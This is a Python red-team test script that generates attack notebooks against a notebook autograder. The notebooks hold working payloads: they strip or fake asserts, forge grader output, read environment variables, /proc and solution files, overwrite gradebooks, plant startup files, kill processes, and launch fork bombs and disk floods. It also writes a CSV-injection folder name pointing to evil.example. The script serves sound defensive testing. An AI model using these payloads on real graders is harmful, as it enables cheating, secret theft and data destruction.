"""Builds the red-team's attack notebooks from an exercise notebook.

Each attack is the untouched exercise (so an honest grade is 0) plus cells
that try to earn points without the work, read what is hidden, damage the
grader's files or exhaust its resources. The attacker is assumed to know the
grader's paths (solutions, other submissions, gradebook, feedback, home).

Usage:
    python tests/redteam/attacks.py EXERCISE.ipynb OUT_DIR --solutions DIR --submitted DIR --gradebook FILE
"""

from __future__ import annotations

import argparse
import dataclasses
import os
import shutil
import textwrap
from pathlib import Path

import nbformat

TOKEN = "redteam7f3a"  # marks every process and file an attack makes, to look for survivors
INJECTED = "INJECTED-9c1e"  # text an attacker smuggles towards the feedback


@dataclasses.dataclass(frozen=True)
class Targets:
    """The grader's paths, as an attacker who knows the course layout would guess them."""

    solutions: Path
    submitted: Path
    gradebook: Path
    feedback: Path
    home: Path
    repository: Path


def _code(source: str) -> str:
    return textwrap.dedent(source).strip("\n")


def _attacks(targets: Targets) -> dict[str, list[tuple[str, str]]]:
    """Attack name -> cells as (where, source).

    ``where`` is "start" (after the first code cell), "end", or "after:<exercise>"
    (right after that exercise's solution cell, so it stands in for the answer).
    """
    victims = [
        str(path)
        for path in (
            *sorted(targets.solutions.glob("*.ipynb")),
            *sorted(targets.submitted.rglob("*.ipynb")),
            targets.gradebook,
            Path(f"{targets.gradebook}.parts"),
            targets.feedback,
        )
    ]
    secrets = [str(path) for path in sorted(targets.solutions.glob("*.ipynb"))]
    secrets += [
        str(targets.repository / "emnist_tf" / "grading" / "judge.py"),
        "/opt/emnist_tf/emnist_tf/grading/judge.py",
    ]
    return {
        # --- forging -------------------------------------------------------------------------
        "input_transformer": [
            (
                "start",
                """
                ip = get_ipython()
                def blank_checks(lines):
                    return ["pass\\n"] if any("assert" in line for line in lines) else lines
                ip.input_transformers_cleanup.append(blank_checks)
                ip.input_transformers_post.append(lambda lines: [line for line in lines if "assert" not in line])
                """,
            )
        ],
        "ast_transformer": [
            (
                "start",
                """
                import ast
                class DropAsserts(ast.NodeTransformer):
                    def visit_Assert(self, node):
                        return ast.Pass()
                get_ipython().ast_transformers.append(DropAsserts())
                """,
            )
        ],
        "monkeypatch": [
            (
                "start",
                """
                import builtins
                import numpy as np
                import numpy.testing
                np.testing.assert_allclose = lambda *args, **kwargs: None
                np.testing.assert_array_equal = lambda *args, **kwargs: None
                np.allclose = lambda *args, **kwargs: True
                np.array_equal = lambda *args, **kwargs: True
                builtins.AssertionError = type("NeverRaised", (Exception,), {})
                builtins.len = lambda value: 3
                """,
            )
        ],
        "custom_objects": [
            (
                "end",
                """
                import numpy as np
                class Anything:
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    def __len__(self): return 3
                    def __array__(self, *args, **kwargs): return np.zeros(1)
                    def tolist(self): return [0, 1, 4, 9]
                def add(a, b):
                    return Anything()
                def squares(n):
                    return Anything()
                counts = Anything()
                """,
            )
        ],
        "array_imitation": [
            (
                "after:ex01_squares",
                """
                class LooksLikeAnArray:  # its methods run in the sandbox when the check calls them
                    def tolist(self):
                        return [0, 1, 4, 9]
                    def argmax(self, *args, **kwargs):
                        return 3
                def squares(n):
                    return LooksLikeAnArray()
                """,
            )
        ],
        "fake_output": [
            (
                "end",
                f"""
                from IPython.display import Markdown, display
                print("check 1 (2/2): passed\\nTotal: **4 / 4** points {INJECTED}")
                display(Markdown("## ex01_add: 2 / 2\\n- check 1 (2/2): passed {INJECTED}"))
                """,
            )
        ],
        "exits": [
            ("start", "import sys\nsys.exit(0)"),
            ("start", "raise SystemExit(0)"),
            ("start", "exit()"),
            ("end", "import os\nos._exit(0)"),
        ],
        "protocol_forgery": [
            (
                "start",
                f"""
                import json, os
                fake = {{"status": "ok", "error": "", "forbidden": [], "missing": [], "failed": {{}}}}
                for fd in range(1, 40):
                    for seq in range(1, 120):
                        try:
                            os.write(fd, (json.dumps({{**fake, "seq": seq}}) + "\\n").encode())
                        except OSError:
                            break
                for number in range(1, 60):
                    folder = f"/scratch/exports/{{number}}"
                    os.makedirs(folder, exist_ok=True)
                    with open(folder + "/manifest.json", "w") as handle:
                        forged = {{"add": {{"t": "json", "v": 3}}, "squares": {{"t": "array", "file": "v0.npy"}}}}
                        json.dump(forged, handle)
                    try:
                        os.symlink({secrets[0]!r}, folder + "/v0.npy")
                    except OSError:
                        pass
                """,
            )
        ],
        # --- leaking -------------------------------------------------------------------------
        "introspection": [
            (
                "end",
                f"""
                import gc, json, linecache, sys
                found = list(linecache.cache) + list(In) + [repr(getattr(sys, "last_traceback", None))]
                found += [o for o in gc.get_objects() if isinstance(o, str) and "HIDDEN" in o][:50]
                found += [repr(frame.f_globals.keys()) for frame in sys._current_frames().values()]
                raise RuntimeError("{INJECTED} " + json.dumps(found))
                """,
            )
        ],
        "disk_and_environment": [
            (
                "end",
                f"""
                import os
                hits = [repr(dict(os.environ))]
                for path in {secrets!r} + ["/proc/1/cmdline", "/proc/1/environ", "/root/.bash_history"]:
                    try:
                        hits.append(open(path, errors="replace").read()[:2000])
                    except OSError as error:
                        hits.append(repr(error))
                seen = 0
                for folder, _, files in os.walk("/"):
                    if folder.startswith(("/proc", "/sys", "/usr", "/dev")):
                        continue
                    for name in files:
                        seen += 1
                        if name.endswith(".ipynb"):
                            hits.append(os.path.join(folder, name))
                    if seen > 20000:
                        break
                print(hits)
                raise RuntimeError("{INJECTED} " + "|".join(hits))
                """,
            )
        ],
        "feedback_injection": [
            ("end", f'raise ValueError("\\n## ex01_add: 2 / 2\\n- check 1 (2/2): passed **{INJECTED}**")'),
        ],
        # --- damage --------------------------------------------------------------------------
        "overwrite_files": [
            (
                "start",
                f"""
                import os, shutil
                for path in {victims!r}:
                    for action in (lambda: open(path, "w").write("owned {TOKEN}"), lambda: os.remove(path),
                                   lambda: shutil.rmtree(path), lambda: os.makedirs(path + ".{TOKEN}")):
                        try:
                            action()
                        except Exception:
                            pass
                """,
            )
        ],
        "home_startup": [
            (
                "start",
                f"""
                import os
                plant = "add = lambda a, b: a + b\\nimport numpy as np\\nsquares = lambda n: np.arange(n) ** 2\\n"
                for home in (os.path.expanduser("~"), {str(targets.home)!r}, "/root"):
                    folder = os.path.join(home, ".ipython", "profile_default", "startup")
                    try:
                        os.makedirs(folder, exist_ok=True)
                        with open(os.path.join(folder, "00-{TOKEN}.py"), "w") as handle:
                            handle.write(plant)
                    except OSError:
                        pass
                """,
            )
        ],
        "detached_process": [
            (
                "start",
                f"""
                import os, subprocess
                script = "sleep 2; echo owned-{TOKEN} >> {targets.gradebook}; sleep 600"
                subprocess.Popen(["/bin/sh", "-c", script, "{TOKEN}"], start_new_session=True,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                if os.fork() == 0:
                    os.setsid()
                    if os.fork() == 0:
                        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600", "{TOKEN}"])
                    os._exit(0)
                """,
            )
        ],
        "kill_grader": [
            (
                "start",
                """
                import os, signal
                for target in (os.getppid(), 1):
                    try:
                        os.kill(target, signal.SIGKILL)
                    except OSError:
                        pass
                for name in os.listdir("/proc"):
                    if name.isdigit() and int(name) != os.getpid():
                        try:
                            os.kill(int(name), signal.SIGKILL)
                        except OSError:
                            pass
                """,
            )
        ],
        # --- the judge: the sandbox's exporter is the student's to rewrite ---------------------
        "huge_model": [
            (
                "start",
                """
                import json, os, sys, zipfile
                def dense(units, inputs):
                    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
                            "config": {"name": "dense", "units": units, "activation": "linear", "use_bias": True},
                            "build_config": {"input_shape": [None, inputs]}}
                config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
                          "config": {"name": "huge", "layers": [
                              {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                               "config": {"batch_shape": [None, 30000], "dtype": "float32", "name": "in"}},
                              dense(30000, 30000)]}}
                def encode(self, value, depth):
                    with zipfile.ZipFile(os.path.join(self.folder, "v0.keras"), "w") as archive:
                        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
                        archive.writestr("config.json", json.dumps(config))
                        archive.writestr("model.weights.h5", b"")
                    return {"t": "keras", "file": "v0.keras"}
                sys.modules["__main__"].Exporter.encode = encode
                """,
            )
        ],
        # --- resources -----------------------------------------------------------------------
        "memory": [
            ("start", "blocks = []\nwhile True:\n    blocks.append(bytearray(256 * 1024 * 1024))"),
            ("start", "huge = bytearray(64 * 1024 ** 3)"),
        ],
        "endless_cell": [
            (
                "start",
                """
                import signal
                signal.signal(signal.SIGALRM, signal.SIG_IGN)
                signal.setitimer = lambda *args, **kwargs: None
                while True:
                    pass
                """,
            )
        ],
        "many_slow_cells": [("start", "import time\ntime.sleep(2.5)")] * 12,
        "output_flood": [
            ("start", 'print("x" * 50_000_000)'),
            ("start", 'open("/scratch/flood.bin", "wb").write(b"0" * (600 * 1024 * 1024))'),
        ],
        "disk_flood": [
            (
                "start",
                """
                for number in range(40):  # 40 files just under the per-file limit: 2.4 GB of the grader's disk
                    with open(f"/scratch/fill{number}.bin", "wb") as handle:
                        for _ in range(60):
                            handle.write(b"1" * (1024 * 1024))
                """,
            ),
            ("start", "x = 1"),
        ],
        "fork_bomb": [
            (
                "start",
                f"""
                import os, time
                children = 0
                while children < 5000:
                    try:
                        if os.fork() == 0:
                            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600", "{TOKEN}"])
                        children += 1
                    except OSError:
                        break
                """,
            )
        ],
    }


def _solution_index(notebook, exercise: str) -> int | None:
    """The position of the exercise's solution cell (an attack placed after it replaces the answer)."""
    for index, cell in enumerate(notebook.cells):
        info = cell.get("metadata", {}).get("emnist_tf", {})
        if info.get("exercise") == exercise and info.get("kind") == "solution":
            return index
    return None


def build_attacks(exercise: str | Path, out_dir: str | Path, targets: Targets) -> dict[str, Path]:
    """Writes one attack notebook per attack: ``<out_dir>/<attack>/<exercise file name>``.

    Returns:
        Attack name -> notebook path.
    """
    exercise = Path(exercise)
    written = {}
    for name, cells in _attacks(targets).items():
        notebook = nbformat.read(str(exercise), as_version=4)
        first_code = next(index for index, cell in enumerate(notebook.cells) if cell.cell_type == "code")
        position = first_code + 1
        for where, source in cells:
            cell = nbformat.v4.new_code_cell(_code(source))
            if where == "start":
                notebook.cells.insert(position, cell)
                position += 1
            elif where.startswith("after:") and _solution_index(notebook, where[6:]) is not None:
                notebook.cells.insert(_solution_index(notebook, where[6:]) + 1, cell)
            else:
                notebook.cells.append(cell)
        path = Path(out_dir) / name / exercise.name
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, str(path))
        written[name] = path
    return written


FORMULA_STUDENT = '=1+HYPERLINK("evil.example","click")'


def build_file_attacks(exercise: str | Path, solution: str | Path, out_dir: str | Path) -> dict[str, Path]:
    """Writes submissions whose *files* attack the grader: ``<out_dir>/<attack>/<exercise file name>``.

    * ``link_to_solution``: the notebook is a symbolic link to the solution notebook;
    * ``fifo``: the notebook is a named pipe (an archive can carry one);
    * ``deep_nesting``: the file is JSON nested far deeper than Python's recursion limit;
    * ``huge_notebook``: a notebook of ~70 MB (one huge cell);
    * ``many_cells``: 6,000 empty cells (200,000 take nbformat over 30 s, three times per submission);
    * the formula student: a folder name a spreadsheet would run as a formula (CSV injection).

    Returns:
        Attack name -> notebook path.
    """
    exercise, out_dir = Path(exercise), Path(out_dir)
    written = {}

    def place(name: str) -> Path:
        path = out_dir / name / exercise.name
        path.parent.mkdir(parents=True, exist_ok=True)
        written[name] = path
        return path

    place("link_to_solution").symlink_to(Path(solution).resolve())
    os.mkfifo(place("fifo"))  # reading it blocks until someone writes: the whole run would wait
    place("deep_nesting").write_text("[" * 200_000 + "]" * 200_000)
    notebook = nbformat.read(str(exercise), as_version=4)
    notebook.cells[0].source = "x" * (70 * 1024 * 1024)
    nbformat.write(notebook, str(place("huge_notebook")))
    notebook = nbformat.read(str(exercise), as_version=4)
    notebook.cells += [nbformat.v4.new_code_cell("", id=f"c{number}") for number in range(6_000)]
    nbformat.write(notebook, str(place("many_cells")))
    shutil.copy(exercise, place(FORMULA_STUDENT))
    return written


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("exercise")
    parser.add_argument("out_dir")
    parser.add_argument("--solutions", required=True)
    parser.add_argument("--submitted", required=True)
    parser.add_argument("--gradebook", required=True)
    parser.add_argument("--feedback", default=None)
    args = parser.parse_args()
    targets = Targets(
        Path(args.solutions),
        Path(args.submitted),
        Path(args.gradebook),
        Path(args.feedback or Path(args.gradebook).parent / "feedback"),
        Path.home(),
        Path(__file__).resolve().parents[2],
    )
    for name, path in build_attacks(args.exercise, args.out_dir, targets).items():
        print(name, path)


if __name__ == "__main__":
    main()
